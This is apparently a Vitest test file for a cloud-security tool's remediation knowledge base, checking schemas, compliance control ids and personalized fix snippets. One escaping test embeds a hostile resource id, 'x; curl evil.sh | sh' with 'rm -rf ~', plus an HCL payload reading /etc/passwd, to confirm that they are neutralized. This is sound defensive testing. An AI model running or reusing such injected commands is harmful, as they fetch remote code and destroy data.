import { describe, expect, it } from "vitest";
import { z } from "zod";
import { frameworks } from "../../../src/agents/knowledge/controls.js";
import {
  createKnowledgeBase,
  defaultEntries,
  defaultKnowledge,
  GENERIC_ARCHETYPE_ID,
  personalize,
  templateVariableNames,
} from "../../../src/agents/knowledge/knowledge-base.js";
import { placeholdersIn } from "../../../src/agents/knowledge/render.js";
import { archetypeIds, archetypeMatchers } from "../../../src/core/archetypes/matchers.js";
import type { Case } from "../../../src/core/case.js";
import { isCloudstewardError } from "../../../src/core/errors.js";
import { makeCase, makeFinding } from "../../../src/testing/factories.js";

const controlId: Record<string, RegExp> = {
  [frameworks.cisAws]: /^[1-5](\.\d{1,2}){1,2}$/,
  [frameworks.cisAzure]: /^([1-9]|10)(\.\d{1,2}){1,2}$/,
  [frameworks.cisGcp]: /^[1-8](\.\d{1,2}){1,2}$/,
  [frameworks.cisKubernetes]: /^[1-5](\.\d{1,2}){2}$/,
  [frameworks.nist]: /^(AC|AU|CA|CM|CP|IA|IR|MA|MP|PE|PL|PM|PS|PT|RA|SA|SC|SI|SR)-\d{1,2}(\(\d{1,2}\))?$/,
  [frameworks.pci]: /^(1[0-2]|[1-9])(\.\d{1,2}){1,3}$/,
  [frameworks.soc2]: /^(CC[1-9]\.\d|A1\.[1-3]|C1\.[12]|PI1\.[1-5]|P[1-8]\.\d)$/,
  [frameworks.iso]: /^A\.(5\.([1-9]|[12]\d|3[0-7])|6\.[1-8]|7\.([1-9]|1[0-4])|8\.([1-9]|[12]\d|3[0-4]))$/,
  [frameworks.hipaa]: /^164\.3(08|10|12|14|16)\([a-e]\)(\(\d\))?(\((i|ii|iii|iv|v)\))?(\([A-F]\))?$/,
};

const unfilled = /\{\{\s*[\w.]+\s*\}\}/;

const entrySchema = z.strictObject({
  id: z.string().regex(/^[a-z0-9]+(-[a-z0-9]+)*$/),
  title: z.string().min(3),
  headline: z.string().includes("{{"),
  risk: z.string().min(20),
  impact: z.string().min(20),
  intents: z.array(z.string().min(5)).min(1),
  remediation: z.array(z.string().min(10)).min(1).max(2),
  snippets: z
    .array(z.strictObject({ language: z.string().min(1), label: z.string().min(1), code: z.string().min(5) }))
    .min(1),
  controls: z
    .array(
      z
        .strictObject({ framework: z.enum(Object.values(frameworks)), control: z.string() })
        .refine((control) => controlId[control.framework]?.test(control.control) ?? false, {
          message: "control id is not well-formed for its framework",
        }),
    )
    .min(3),
  consoleUrl: z.url().or(z.string().startsWith("https://")).optional(),
  compensatingControls: z
    .array(z.strictObject({ description: z.string().min(10), verification: z.string().min(10) }))
    .min(1)
    .optional(),
});

/** A public-bucket case with owner, environment and classification; with `vulnerable`, every variable is set. */
function sampleCase(vulnerable = false): Case {
  const vulnerability = {
    cve: "CVE-2021-44228",
    packageName: "log4j-core",
    installedVersion: "2.14.1",
    fixedVersion: "2.17.1",
  };
  return makeCase({
    findings: [
      makeFinding({
        resource: { name: "orders-prod", region: "eu-west-1", accountName: "payments-prod" },
        ...(vulnerable ? { vulnerability } : {}),
      }),
    ],
    context: {
      owner: { value: "alice@example.com", source: "tag:owner" },
      environment: { value: "production", source: "tag:env" },
      dataClassification: { value: "restricted", source: "tag:data" },
    },
  });
}

describe("the built-in knowledge base", () => {
  it("holds at least 60 complete, valid entries with unique ids", () => {
    expect(defaultEntries().length).toBeGreaterThanOrEqual(60);
    const ids = defaultEntries().map((entry) => entry.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const entry of defaultEntries()) {
      const result = entrySchema.safeParse(entry);
      expect(result.success, `${entry.id}: ${result.error?.message}`).toBe(true);
    }
  });

  it("covers AWS, Azure, GCP, Kubernetes, identity, secrets and vulnerabilities", () => {
    const ids = defaultEntries().map((entry) => entry.id);
    for (const prefix of ["aws-", "azure-", "gcp-", "k8s-", "secret-"]) {
      expect(ids.filter((id) => id.startsWith(prefix)).length, prefix).toBeGreaterThanOrEqual(
        prefix === "secret-" ? 3 : 10,
      );
    }
    expect(ids).toEqual(
      expect.arrayContaining(["exploitable-critical-cve", "log4shell-class-rce", "vulnerable-package"]),
    );
    expect(ids).toEqual(
      expect.arrayContaining([
        "aws-iam-wildcard-admin",
        "azure-subscription-owner-sprawl",
        "gcp-iam-primitive-roles",
      ]),
    );
  });

  it("has an entry for every id the matcher can return", () => {
    for (const id of archetypeIds) expect(defaultKnowledge.get(id), id).toBeDefined();
    for (const matcher of archetypeMatchers)
      expect(defaultKnowledge.get(matcher.id), matcher.id).toBeDefined();
  });

  it("uses only known placeholders, and every template renders completely for a sample resource", () => {
    const known = new Set(templateVariableNames);
    const facts = defaultKnowledge.factsFor(sampleCase(true));
    for (const entry of defaultEntries()) {
      const templates = [
        entry.headline,
        entry.risk,
        entry.impact,
        ...entry.intents,
        ...entry.remediation,
        ...entry.snippets.map((snippet) => snippet.code),
        entry.consoleUrl ?? "",
      ];
      for (const template of templates) {
        for (const name of placeholdersIn(template))
          expect(known.has(name), `${entry.id}: {{${name}}}`).toBe(true);
      }
      for (const snippet of entry.snippets) {
        const code = personalize(snippet.code, facts.variables, snippet.language);
        expect(code, `${entry.id}: ${snippet.label}`).not.toMatch(unfilled);
      }
      for (const template of [entry.headline, entry.risk, ...entry.remediation]) {
        expect(personalize(template, facts.variables), entry.id).not.toMatch(unfilled);
      }
    }
  });

  it("renders snippets without placeholders even when the region and vulnerability are unknown", () => {
    const item = makeCase({ findings: [makeFinding({ resource: { name: "logs", region: undefined } })] });
    const variables = defaultKnowledge.factsFor(item).variables;
    for (const entry of defaultEntries()) {
      for (const snippet of entry.snippets) {
        expect(personalize(snippet.code, variables, snippet.language), entry.id).not.toMatch(unfilled);
      }
    }
  });
});

describe("factsFor", () => {
  it("personalizes the archetype's guidance with the resource, owner, environment and data classification", () => {
    const facts = defaultKnowledge.factsFor(sampleCase());
    expect(facts.archetypeId).toBe("aws-s3-public-read");
    expect(facts.specific).toBe(true);
    expect(facts.headline).toBe("S3 bucket orders-prod can be read by anyone on the internet");
    expect(facts.snippets[0]?.code).toContain("--bucket orders-prod");
    expect(facts.owner).toBe("alice@example.com");
    expect(facts.environment).toBe("production");
    expect(facts.dataClassification).toBe("restricted");
    expect(facts.consoleUrl).toBe(
      "https://s3.console.aws.amazon.com/s3/buckets/orders-prod?region=eu-west-1",
    );
    expect(facts.controls).toContainEqual({ framework: frameworks.cisAws, control: "2.1.4" });
    expect(facts.frameworks).toContain(frameworks.pci);
  });

  it("explains a CVE through the vulnerability archetypes while the match stays per CVE", () => {
    const item = makeCase({
      findings: [
        makeFinding({
          category: "vulnerability",
          severity: "critical",
          title: "CVE-2024-3094 in xz-utils",
          rule: { id: "cve-rule", name: "CVE-2024-3094" },
          resource: { type: "aws.ec2.instance", name: "build-01" },
          vulnerability: {
            cve: "CVE-2024-3094",
            packageName: "xz-utils",
            installedVersion: "5.6.0",
            fixedVersion: "5.6.2",
          },
        }),
      ],
    });
    const facts = defaultKnowledge.factsFor(item);
    expect(facts.matchedId).toBe("cve:CVE-2024-3094");
    expect(facts.archetypeId).toBe("exploitable-critical-cve");
    expect(facts.remediationSteps[0]).toBe(
      "Upgrade xz-utils on build-01 to 5.6.2 and redeploy (rebuild the image for containers).",
    );
  });

  it("falls back to the generic entry, with the platform's remediation and controls, when nothing matches", () => {
    const item = makeCase({
      findings: [
        makeFinding({
          title: "Widget frobnication is enabled",
          rule: {
            id: "acme-1",
            name: "Widget frobnication should be off",
            remediation: "Turn frobnication off in the widget settings.",
            controls: [{ framework: "ACME", control: "W-1" }],
          },
          resource: { type: "aws.widget.thing", name: "w-1" },
        }),
      ],
    });
    const facts = defaultKnowledge.factsFor(item);
    expect(facts.archetypeId).toBe(GENERIC_ARCHETYPE_ID);
    expect(facts.specific).toBe(false);
    expect(facts.headline).toBe("Widget frobnication should be off on w-1");
    expect(facts.remediationSteps).toEqual([
      "Platform guidance for “Widget frobnication should be off” (wiz, not from the knowledge base): Turn frobnication off in the widget settings.",
    ]);
    expect(facts.remediationSource).toBe("platform");
    expect(facts.controls).toEqual([{ framework: "ACME", control: "W-1" }]);
  });

  it("uses the id's last segment in commands and the display name in prose", () => {
    const item = makeCase({
      findings: [
        makeFinding({
          title: "Security group allows SSH from 0.0.0.0/0",
          resource: {
            id: "arn:aws:ec2:us-east-1:123456789012:security-group/sg-0abc1234def567890",
            type: "aws.ec2.security-group",
            name: "web-sg",
          },
        }),
      ],
    });
    const facts = defaultKnowledge.factsFor(item);
    expect(facts.headline).toBe("Security group web-sg allows SSH (port 22) from 0.0.0.0/0");
    expect(facts.snippets[0]?.code).toContain("--group-id sg-0abc1234def567890 --protocol tcp --port 22");
  });

  it("escapes a hostile resource id in shell, HCL and JSON snippets", () => {
    const hostile = "x; curl evil.sh | sh\nrm -rf ~";
    const item = makeCase({
      findings: [makeFinding({ resource: { id: `arn:aws:s3:::${hostile}`, name: hostile } })],
    });
    const facts = defaultKnowledge.factsFor(item);
    const bash = facts.snippets.find((snippet) => snippet.language === "bash")?.code ?? "";
    expect(bash).toContain("--bucket 'x; curl evil.sh | sh rm -rf ~'");
    const hcl = facts.snippets.find((snippet) => snippet.language === "hcl")?.code ?? "";
    expect(hcl).toContain('bucket                  = "x; curl evil.sh | sh rm -rf ~"');
    expect(personalize('{"a":"{{resource.name}}"}', { "resource.name": 'q"}' }, "json")).toBe(
      '{"a":"q\\"}"}',
    );
    expect(
      personalize('name = "{{resource.name}}"', { "resource.name": `$${"{"}file("/etc/passwd")}` }, "hcl"),
    ).toBe('name = "$${file(\\"/etc/passwd\\")}"');
  });
});

describe("createKnowledgeBase", () => {
  const custom = {
    id: "acme-widget-frobnication",
    title: "Widget frobnication on",
    headline: "Widget {{resource.name}} has frobnication on",
    risk: "Frobnication leaks widget internals to anyone who asks.",
    impact: "Competitors learn the widget roadmap.",
    intents: ["Left on after a demo"],
    remediation: ["Turn frobnication off on {{resource.name}}."],
    snippets: [
      { language: "bash", label: "CLI", code: "acme widget update {{resource.name}} --no-frobnicate" },
    ],
    controls: [{ framework: "ACME", control: "W-1" }],
    match: { resourceTypes: ["aws.widget"], keywords: [["frobnication"]] },
  };

  it("adds custom entries whose matchers take precedence, and keeps the defaults", () => {
    const knowledge = createKnowledgeBase([...defaultEntries(), custom]);
    const item = makeCase({
      findings: [
        makeFinding({
          title: "Widget frobnication is enabled",
          resource: { type: "aws.widget.thing", name: "w-9" },
        }),
      ],
    });
    const facts = knowledge.factsFor(item);
    expect(facts.archetypeId).toBe("acme-widget-frobnication");
    expect(facts.snippets[0]?.code).toBe("acme widget update w-9 --no-frobnicate");
    expect(knowledge.get("aws-s3-public-read")).toBeDefined();
    expect(knowledge.entries.length).toBe(defaultEntries().length + 1);
  });

  it("lets a later entry override a built-in one with the same id", () => {
    const knowledge = createKnowledgeBase([
      ...defaultEntries(),
      {
        ...custom,
        id: "aws-s3-public-read",
        headline: "Bucket {{resource.name}} is public (Acme wording)",
        match: undefined,
      },
    ]);
    expect(knowledge.factsFor(sampleCase()).headline).toBe("Bucket orders-prod is public (Acme wording)");
  });

  it("rejects an invalid entry with a ConfigurationError naming it", () => {
    let caught: unknown;
    try {
      createKnowledgeBase([{ ...custom, id: "Not Kebab", match: undefined }]);
    } catch (error) {
      caught = error;
    }
    expect(isCloudstewardError(caught, "CONFIGURATION")).toBe(true);
    expect((caught as Error).message).toContain("knowledge entry 0 (Not Kebab) is invalid at id");
  });
});

describe("custom matchers", () => {
  it("are tried before the built-in ones even when they apply to every resource type", () => {
    const knowledge = createKnowledgeBase([
      ...defaultEntries(),
      {
        id: "acme-public-bucket-exception",
        title: "Public bucket under review",
        headline: "Bucket {{resource.name}} is public and under Acme review",
        risk: "Anyone can read {{resource.name}} while the review is open.",
        impact: "Data in it may be exposed until the review ends.",
        intents: ["Acme's review process"],
        remediation: ["Finish the Acme review of {{resource.name}}."],
        snippets: [{ language: "text", label: "Steps", code: "Review {{resource.name}}." }],
        controls: [{ framework: "ACME", control: "R-1" }],
        match: { resourceTypes: ["*"], keywords: [["publicly readable"]] },
      },
    ]);
    const item = makeCase({
      findings: [
        makeFinding({ title: "S3 bucket is publicly readable", resource: { type: "aws.s3.bucket" } }),
      ],
    });
    expect(knowledge.archetypeFor(item)).toBe("acme-public-bucket-exception");
    expect(defaultKnowledge.archetypeFor(item)).toBe("aws-s3-public-read");
  });
});
